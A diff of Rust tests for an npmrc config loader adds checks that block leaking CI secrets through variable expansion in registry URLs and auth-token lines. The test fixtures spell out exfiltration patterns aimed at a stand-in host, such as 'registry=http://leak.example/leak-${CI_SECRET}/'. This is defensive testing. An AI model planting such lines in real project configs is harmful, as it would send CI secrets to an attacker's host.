@@ -203,9 +203,9 @@ fn env_userconfig_overrides_user_npmrc() {
 #[test]
 fn var_expansion() {
     let f = Fixture::new();
-    f.write_project(concat!(
+    f.write_user(concat!(
         "//npm.example/:_authToken=${NPM_TOKEN}\n",
-        "registry=https://${HOST}/${NOPE?}\n",
+        "registry=https://npm.example/${NOPE?}\n",
         "@a:registry=\"https://a.example/\\\\${HOST}/\"\n",
         "//${HOST}/:_auth=${AUTH}\n",
     ));
@@ -231,14 +231,17 @@ fn var_expansion() {
 #[test]
 fn expand_escapes_like_npm() {
     let e: EnvMap = [("X", "v")].into_iter().collect();
-    assert_eq!(expand("a${X}b", &e), "avb");
-    assert_eq!(expand(r"\${X}", &e), "${X}");
-    assert_eq!(expand(r"\\${X}", &e), r"\v");
-    assert_eq!(expand(r"\\\${X}", &e), r"\${X}");
-    assert_eq!(expand("${Y?}-${X}", &e), "-v");
-    assert_eq!(expand("${}${X", &e), "${}${X");
-    assert_eq!(expand("${Y}", &e), "${Y}");
-    assert_eq!(expand(r"\${Y}", &e), "${Y}");
+    let text = |s: &str| expand(s, &e).0;
+    assert_eq!(text("a${X}b"), "avb");
+    assert_eq!(text(r"\${X}"), "${X}");
+    assert_eq!(text(r"\\${X}"), r"\v");
+    assert_eq!(text(r"\\\${X}"), r"\${X}");
+    assert_eq!(text("${Y?}-${X}"), "-v");
+    assert_eq!(text("${}${X"), "${}${X");
+    assert_eq!(text("${Y}"), "${Y}");
+    assert_eq!(text(r"\${Y}"), "${Y}");
+    assert_eq!(expand("${X}${Y?}${X}", &e).1, vec!["X", "X"]);
+    assert!(expand(r"\${X}", &e).1.is_empty());
 }
 
 #[test]
@@ -701,4 +704,108 @@ fn unreadable_config_is_an_error_naming_the_file() {
         err.to_string().contains(&f.user().display().to_string()),
         "{err}"
     );
+}
+
+#[test]
+fn registry_urls_never_expand_variables_in_any_file() {
+    // The attack: a pull request points the registry at its own host with
+    // a CI secret in the path.
+    let secret = "s3cr3t-value";
+    let f = Fixture::new();
+    f.write_project("registry=http://leak.example/leak-${CI_SECRET}/\n");
+    let err = f.load(&env(&[("CI_SECRET", secret)]), None).unwrap_err();
+    let text = err.to_string();
+    assert!(matches!(err, NpmrcError::ExpandedRegistry { .. }), "{text}");
+    assert!(
+        text.contains("${CI_SECRET}") && !text.contains(secret),
+        "{text}"
+    );
+    let f = Fixture::new();
+    f.write_user("@corp:registry=https://${HOST}/npm/\n");
+    assert!(matches!(
+        f.load(&env(&[("HOST", "npm.corp.example")]), None),
+        Err(NpmrcError::ExpandedRegistry { .. })
+    ));
+}
+
+#[test]
+fn project_credentials_with_secrets_go_only_to_hosts_named_outside_the_repository() {
+    let secret = "s3cr3t-value";
+    let f = Fixture::new();
+    f.write_project(concat!(
+        "registry=https://leak.example/\n",
+        "//leak.example/:_authToken=${CI_SECRET}\n",
+        "_authToken=${CI_SECRET}\n",
+    ));
+    let cfg = f.load(&env(&[("CI_SECRET", secret)]), None).unwrap();
+    assert_eq!(header(&cfg, "https://leak.example/pkg"), None);
+    let refused: Vec<(&str, &str, Vec<String>)> = cfg
+        .refused()
+        .iter()
+        .map(|r| (r.key.as_str(), r.host.as_str(), r.vars.clone()))
+        .collect();
+    assert_eq!(
+        refused,
+        vec![
+            (
+                "//leak.example/:_authToken",
+                "leak.example",
+                vec!["CI_SECRET".to_string()]
+            ),
+            ("_authToken", "leak.example", vec!["CI_SECRET".to_string()]),
+        ]
+    );
+    assert!(!format!("{cfg:?}").contains(secret));
+    // A literal token written in the repository is no secret of the
+    // environment: it goes where the file says.
+    let f = Fixture::new();
+    f.write_project("//leak.example/:_authToken=literal\n");
+    let cfg = f.load(&[], None).unwrap();
+    assert_eq!(
+        header(&cfg, "https://leak.example/pkg").as_deref(),
+        Some("Bearer literal")
+    );
+}
+
+#[test]
+fn the_standard_token_patterns_keep_working() {
+    // `//<public registry>/:_authToken=${NPM_TOKEN}` in the project file.
+    let f = Fixture::new();
+    f.write_project("//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n");
+    let cfg = f.load(&env(&[("NPM_TOKEN", TOKEN)]), None).unwrap();
+    assert_eq!(
+        header(&cfg, "https://registry.npmjs.org/lodash").as_deref(),
+        Some(format!("Bearer {TOKEN}").as_str())
+    );
+    assert!(cfg.refused().is_empty());
+    // actions/setup-node writes the scope's registry and its token into the
+    // user-level npmrc; a project file may then name the same host.
+    let f = Fixture::new();
+    f.write_user(concat!(
+        "@o:registry=https://npm.pkg.github.com/\n",
+        "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n",
+    ));
+    f.write_project("//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}\n");
+    let cfg = f.load(&env(&[("NODE_AUTH_TOKEN", TOKEN)]), None).unwrap();
+    assert_eq!(
+        header(&cfg, "https://npm.pkg.github.com/@o%2fpkg").as_deref(),
+        Some(format!("Bearer {TOKEN}").as_str())
+    );
+    assert!(cfg.refused().is_empty());
+}
+
+#[test]
+fn the_project_cannot_send_a_user_token_over_plain_http() {
+    let f = Fixture::new();
+    f.write_user(&format!("//registry.npmjs.org/:_authToken={TOKEN}\n"));
+    f.write_project("registry=http://registry.npmjs.org/\n");
+    let cfg = f.load(&[], None).unwrap();
+    assert_eq!(header(&cfg, "http://registry.npmjs.org/lodash"), None);
+    // Named with http: outside the repository, it is the user's choice.
+    let f = Fixture::new();
+    f.write_user(&format!(
+        "registry=http://registry.npmjs.org/\n//registry.npmjs.org/:_authToken={TOKEN}\n"
+    ));
+    let cfg = f.load(&[], None).unwrap();
+    assert!(header(&cfg, "http://registry.npmjs.org/lodash").is_some());
 }
